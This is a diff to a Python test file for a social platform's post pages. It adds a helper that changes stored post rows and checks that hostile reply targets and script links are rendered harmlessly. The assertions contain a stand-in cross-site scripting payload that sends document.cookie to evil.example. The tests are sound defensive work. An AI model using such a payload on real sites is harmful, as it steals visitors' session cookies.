@@ -62,17 +62,23 @@ async def test_the_author_of_a_replied_to_post_with_a_data_url_is_no_live_link(c
     assert '<a href="https://evil.example/users/rex/statuses/1" rel="nofollow noopener noreferrer">' in html
 
 
-async def test_a_stored_reply_target_that_is_not_http_is_shown_as_text(client, services, make_artist):
-    """inReplyTo rows written before fetches checked ids, or by an import, render as text."""
-    await make_artist("ana")
-    post = await publish(services, text="old reply")
+async def page_of_stored_post(client, services, text: str, **stored) -> str:
+    """The page of a post whose row was changed behind the checks (as an old row or an import would be)."""
+    post = await publish(services, text=text)
     async with services.sessions() as session:
         row = await session.get(Post, post.id)
-        row.in_reply_to = HOSTILE_PAGE
+        for name, value in stored.items():
+            setattr(row, name, value)
         session.add(row)
         await session.commit()
     services.cache.clear()
-    html = await post_page(client, post.id)
+    return await post_page(client, post.id)
+
+
+async def test_a_stored_reply_target_that_is_not_http_is_shown_as_text(client, services, make_artist):
+    """inReplyTo rows written before fetches checked ids, or by an import, render as text."""
+    await make_artist("ana")
+    html = await page_of_stored_post(client, services, "old reply", in_reply_to=HOSTILE_PAGE)
     assert_only_web_links(html.replace("javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)", ""))
     assert "<code>javascript:fetch(&#39;https://evil.example/?c=&#39;+document.cookie)</code>" in html
 
@@ -80,14 +86,9 @@ async def test_a_stored_reply_target_that_is_not_http_is_shown_as_text(client, s
 async def test_stored_post_html_with_a_script_link_is_cleaned_when_shown(client, services, make_artist):
     """Content stored before mentions were checked (or by an import) is cleaned again on the page."""
     await make_artist("ana")
-    post = await publish(services, text="old post")
-    async with services.sessions() as session:
-        row = await session.get(Post, post.id)
-        row.content = f'<p>see <a href="{HOSTILE_PAGE}" class="u-url mention">@<span>mal</span></a></p>'
-        session.add(row)
-        await session.commit()
-    services.cache.clear()
-    html = await post_page(client, post.id)
+    html = await page_of_stored_post(
+        client, services, "old post",
+        content=f'<p>see <a href="{HOSTILE_PAGE}" class="u-url mention">@<span>mal</span></a></p>')
     assert_only_web_links(html)
     assert "@<span>mal</span></a>" in html  # the text stays; the script link does not
 
